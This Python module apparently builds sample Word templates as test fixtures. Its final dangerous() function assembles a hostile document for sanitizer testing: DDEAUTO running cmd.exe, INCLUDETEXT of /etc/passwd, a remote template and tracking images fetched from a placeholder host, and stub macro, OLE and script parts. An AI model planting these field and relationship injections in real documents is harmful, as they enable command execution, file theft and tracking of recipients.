"""House templates as offices have them, nasty ones among them; all made here, of invented words."""

from __future__ import annotations

import base64
import io
import re
import zipfile
from functools import cache
from typing import TYPE_CHECKING

import docx
from docx.enum.section import WD_SECTION
from docx.oxml import parse_xml
from docx.shared import Cm

if TYPE_CHECKING:
    from collections.abc import Callable

    from docx.document import Document

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAFklEQVR42mNkYPhPEmAcVT+qfnCrBwDAAwcQ"
    "VvT5cwAAAABJRU5ErkJggg=="
)
"""A picture of 16 by 16 dots."""


def saved(document: Document) -> bytes:
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def changed(data: bytes, changes: dict[str, Callable[[str], str]]) -> bytes:
    """Return a file with some parts changed; each change must change something."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name in changes:
                after = changes[name](content.decode())
                assert after != content.decode(), name
                content = after.encode()
            new.writestr(name, content)
    return stream.getvalue()


def added(data: bytes, parts: dict[str, bytes]) -> bytes:
    """Return a file with further parts."""
    stream = io.BytesIO(data)
    with zipfile.ZipFile(stream, "a") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


@cache
def python_docx() -> bytes:
    """Make what python-docx makes: 160 styles, no body, fields in header and footer."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.left_margin, section.right_margin = Cm(21), Cm(3), Cm(2)
    section.header.paragraphs[0].text = "{{instance}} – réunion du {{date}}"
    section.footer.paragraphs[0].text = "Version {{version}} ({{ETAT}})"
    return saved(document)


@cache
def french() -> bytes:
    """Make one whose styles an office named in French, based on its own type."""
    document = docx.Document()
    document.styles["Normal"].font.name = "Georgia"
    for level in (1, 2):
        document.styles[f"Heading {level}"].name = f"Titre {level}"
    for name, own in (("Title", "Titre"), ("Subtitle", "Sous-titre"), ("List Bullet", "Puces")):
        document.styles[name].name = own
    text = "word/styles.xml"

    def custom(styles: str) -> str:
        for name in ("Titre", "Titre 1", "Titre 2", "Sous-titre", "Puces"):
            styles = re.sub(
                rf'<w:style w:type="paragraph"([^>]*)>(\s*)<w:name w:val="{name}"/>',
                rf'<w:style w:type="paragraph" w:customStyle="1"\1>\2<w:name w:val="{name}"/>',
                styles,
            )
        return styles.replace('w:customStyle="1" w:customStyle="1"', 'w:customStyle="1"')

    return changed(saved(document), {text: custom})


@cache
def bare() -> bytes:
    """Make the least file there is: no styles, no lists, another prefix than Word's."""
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{types}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/papier/lettre.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{relations}"><Relationship Id="a" '
        f'Type="{R}/officeDocument" Target="papier/lettre.xml"/></Relationships>',
        "papier/lettre.xml": f'<x:document xmlns:x="{W}"><x:body><x:p><x:r><x:t>Avant</x:t></x:r>'
        "</x:p><x:p><x:r><x:t>[[RELEVÉ]]</x:t></x:r></x:p><x:p><x:r><x:t>Après</x:t></x:r></x:p>"
        "</x:body></x:document>",
    }
    return added(_empty(), {name: text.encode() for name, text in parts.items()})


def _empty() -> bytes:
    stream = io.BytesIO()
    zipfile.ZipFile(stream, "w").close()
    return stream.getvalue()


WATERMARK = (
    f'<w:p xmlns:w="{W}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"><w:r><w:pict>'
    '<v:shapetype id="_x0000_t136" coordsize="21600,21600" o:spt="136" adj="10800" '
    'path="m@7,l@8,m@5,21600l@6,21600e"/>'
    '<v:shape id="filigrane" type="#_x0000_t136" style="position:absolute;width:400pt;'
    'height:100pt;rotation:315" fillcolor="silver" stroked="f">'
    '<v:textpath style="font-family:Calibri" string="PROJET"/></v:shape></w:pict></w:r></w:p>'
)


@cache
def letterhead() -> bytes:
    """Make one with logo, watermark, page numbers, fixed text, marker and signature."""
    document = docx.Document()
    section = document.sections[0]
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(PNG), width=Cm(2))
    section.header.paragraphs[0].add_run("  Secrétariat du comité")
    section.header._element.append(parse_xml(WATERMARK))
    footer = section.footer.paragraphs[0]
    footer.add_run("Page ")
    footer._p.append(_simple("PAGE", "1"))
    footer.add_run(" – Plan ")
    footer._p.append(_simple('DOCPROPERTY "Plan"', "ancien"))
    # As Word cuts what was typed and corrected.
    opening = document.add_paragraph("Rabat, le ")
    for piece in ("{", "{da", "te", "}} à {{heure", "}}"):
        opening.add_run(piece).bold = piece == "te"
    document.add_paragraph("{{relevé}}")
    document.add_paragraph("Le président, {{inconnu}}")
    table = document.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "Vu", "Signé"
    return saved(document)


def _simple(instruction: str, shown: str) -> object:
    return parse_xml(
        f'<w:fldSimple xmlns:w="{W}" w:instr="{instruction.replace(chr(34), "&quot;")}"><w:r><w:t>'
        f"{shown}</w:t></w:r></w:fldSimple>"
    )


@cache
def two_sections() -> bytes:
    """Make a cover and a second section, each with headers of its own, first and even ones too."""
    document = docx.Document()
    document.settings.odd_and_even_pages_header_footer = True
    cover = document.sections[0]
    cover.different_first_page_header_footer = True
    cover.first_page_header.paragraphs[0].text = "COUVERTURE {{plan}}"
    cover.header.paragraphs[0].text = "Suite de la couverture"
    document.add_paragraph("Page de garde")
    following = document.add_section(WD_SECTION.NEW_PAGE)
    following.left_margin = following.right_margin = Cm(4)
    following.different_first_page_header_footer = False
    following.header.is_linked_to_previous = False
    following.header.paragraphs[0].text = "Relevé du {{jour}}"
    following.even_page_header.is_linked_to_previous = False
    following.even_page_header.paragraphs[0].text = "Pages paires"
    document.add_paragraph("  {{ RELEVE }} ")
    return saved(document)


@cache
def control(tag: str = "pan:releve") -> bytes:
    """Make a content control for the relevé in a cell of a page laid out by a table."""
    document = docx.Document()
    table = document.add_table(1, 2)
    table.cell(0, 0).text = "Marge"
    table.cell(0, 0).width, table.cell(0, 1).width = Cm(2), Cm(13)
    table.columns[0].width, table.columns[1].width = Cm(2), Cm(13)
    cell = table.cell(0, 1)._tc
    cell.append(
        parse_xml(
            f'<w:sdt xmlns:w="{W}"><w:sdtPr><w:alias w:val="Relevé"/><w:tag w:val="{tag}"/>'
            '<w:id w:val="77"/><w:lock w:val="sdtContentLocked"/><w:showingPlcHdr/>'
            '<w:dataBinding w:xpath="/a" w:storeItemID="{1}"/><w:text/></w:sdtPr>'
            "<w:sdtContent><w:p><w:r><w:t>Cliquez ici</w:t></w:r></w:p></w:sdtContent></w:sdt>"
        )
    )
    document.add_paragraph("Fin de la page")
    dated = parse_xml(
        f'<w:p xmlns:w="{W}"><w:sdt><w:sdtPr><w:tag w:val="pan:lieu"/><w:showingPlcHdr/><w:text/>'
        "</w:sdtPr><w:sdtContent><w:r><w:t>Lieu</w:t></w:r></w:sdtContent></w:sdt></w:p>"
    )
    document.element.body.insert(0, dated)
    return saved(document)


@cache
def own_lists() -> bytes:
    """Make one whose list styles have marks and indents of their own, by a numbering style."""
    document = docx.Document()
    document.styles["List Bullet"]
    numbering = document.part.numbering_part.element
    last = numbering.xpath("w:abstractNum")[-1]
    last.addnext(
        parse_xml(
            f'<w:abstractNum xmlns:w="{W}" w:abstractNumId="90">'
            '<w:multiLevelType w:val="hybridMultilevel"/>'
            '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/>'
            '<w:pStyle w:val="ListBullet"/><w:lvlText w:val="→"/><w:lvlJc w:val="left"/>'
            '<w:pPr><w:ind w:left="1000" w:hanging="300"/></w:pPr></w:lvl></w:abstractNum>'
        )
    )
    numbering.append(
        parse_xml(f'<w:num xmlns:w="{W}" w:numId="90"><w:abstractNumId w:val="90"/></w:num>')
    )
    properties = document.styles["List Bullet"].element.get_or_add_pPr()
    properties.get_or_add_numPr().get_or_add_numId().val = 90
    return saved(document)


@cache
def numbered_headings() -> bytes:
    """Make one whose headings are numbered by their styles, and whose list is over one level."""
    document = docx.Document()
    numbering = document.part.numbering_part.element
    levels = "".join(
        f'<w:lvl w:ilvl="{level}"><w:start w:val="1"/><w:numFmt w:val="decimal"/>'
        f'<w:pStyle w:val="Heading{level + 1}"/><w:lvlText w:val="{marks}"/>'
        '<w:lvlJc w:val="left"/></w:lvl>'
        for level, marks in enumerate(("%1.", "%1.%2."))
    )
    numbering.xpath("w:abstractNum")[-1].addnext(
        parse_xml(
            f'<w:abstractNum xmlns:w="{W}" w:abstractNumId="91">'
            f'<w:multiLevelType w:val="multilevel"/>{levels}</w:abstractNum>'
        )
    )
    numbering.append(
        parse_xml(f'<w:num xmlns:w="{W}" w:numId="91"><w:abstractNumId w:val="91"/></w:num>')
    )
    for level in (0, 1):
        style = document.styles[f"Heading {level + 1}"].element
        joined = style.get_or_add_pPr().get_or_add_numPr()
        joined.get_or_add_numId().val = 91
        joined.get_or_add_ilvl().val = level
    document.add_paragraph("Avant")
    document.add_paragraph("{{relevé}}")
    return saved(document)


HOUSES: dict[str, Callable[[], bytes]] = {
    "python-docx": python_docx,
    "french": french,
    "bare": bare,
    "letterhead": letterhead,
    "two sections": two_sections,
    "control in a cell": control,
    "own lists": own_lists,
    "numbered headings": numbered_headings,
}


# What others may send ------------------------------------------------------------------------


@cache
def dangerous() -> bytes:
    """Make one that would run and fetch everything that Word can."""
    document = docx.Document()
    document.add_paragraph("{{relevé}}")
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> {}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    instructions = {
        'INCLUDETEXT "file:///etc/passwd"': "texte inclus",
        'DDEAUTO c:\\\\cmd.exe "/k calc"': "dde",
        'INCLUDEPICTURE "http://exemple.invalid/x.png"': "image incluse",
        'DATABASE \\d "C:\\\\base.mdb"': "base",
        'HYPERLINK "file://serveur/partage"': "lien vers un partage",
        'HYPERLINK "https://exemple.invalid/page"': "lien permis",
        "MACROBUTTON Lancer ici": "bouton",
    }
    for instruction, shown in instructions.items():
        quoted = instruction.replace('"', "&quot;")
        document.element.body.insert(
            0, parse_xml(f'<w:p xmlns:w="{W}">{field.format(quoted, shown)}</w:p>')
        )
    split = field.format("INCLUDE", "champ coupé").replace(
        "</w:instrText></w:r>", "</w:instrText></w:r><w:r><w:instrText>TEXT x</w:instrText></w:r>"
    )
    document.element.body.insert(0, parse_xml(f'<w:p xmlns:w="{W}">{split}</w:p>'))
    document.element.body.insert(
        0, parse_xml(f'<w:altChunk xmlns:w="{W}" xmlns:r="{R}" r:id="rId91"/>')
    )
    document.element.body.insert(
        0,
        parse_xml(
            f'<w:p xmlns:w="{W}" xmlns:r="{R}"><w:hyperlink r:id="rId93"><w:r><w:t>clic</w:t></w:r>'
            '</w:hyperlink><w:r><w:object xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape><v:imagedata r:id="rId94" '
            'src="http://exemple.invalid/y.png"/></v:shape><o:OLEObject r:id="rId92"/></w:object>'
            '</w:r><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape '
            'href="http://exemple.invalid/z"><v:imagedata r:id="rId94"/></v:shape></w:pict></w:r>'
            "</w:p>",
        ),
    )
    data = changed(
        saved(document),
        {
            "word/_rels/document.xml.rels": lambda text: text.replace(
                "</Relationships>",
                f'<Relationship Id="rId91" Type="{R}/aFChunk" Target="chunk.html"/>'
                f'<Relationship Id="rId92" Type="{R}/oleObject" Target="embeddings/o.bin"/>'
                f'<Relationship Id="rId93" Type="{R}/hyperlink" TargetMode="External" '
                'Target="file:///c:/windows/system32/calc.exe"/>'
                f'<Relationship Id="rId94" Type="{R}/image" TargetMode="External" '
                'Target="http://exemple.invalid/suivi.png"/>'
                f'<Relationship Id="rId95" Type="http://schemas.microsoft.com/office/2006/'
                'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            ),
            "word/settings.xml": lambda text: re.sub(
                r"(<w:settings[^>]*>)",
                rf'\1<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/>',
                text,
                count=1,
            ),
        },
    )
    target = "http://exemple.invalid/modele.dotm"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    return added(
        data,
        {
            "word/vbaProject.bin": b"macros",
            "word/chunk.html": b"<script>1</script>",
            "word/embeddings/o.bin": b"ole",
            "word/_rels/settings.xml.rels": (
                f'<Relationships xmlns="{relations}"><Relationship Id="rId1" '
                f'Type="{R}/attachedTemplate" TargetMode="External" Target="{target}"/>'
                "</Relationships>"
            ).encode(),
        },
    )
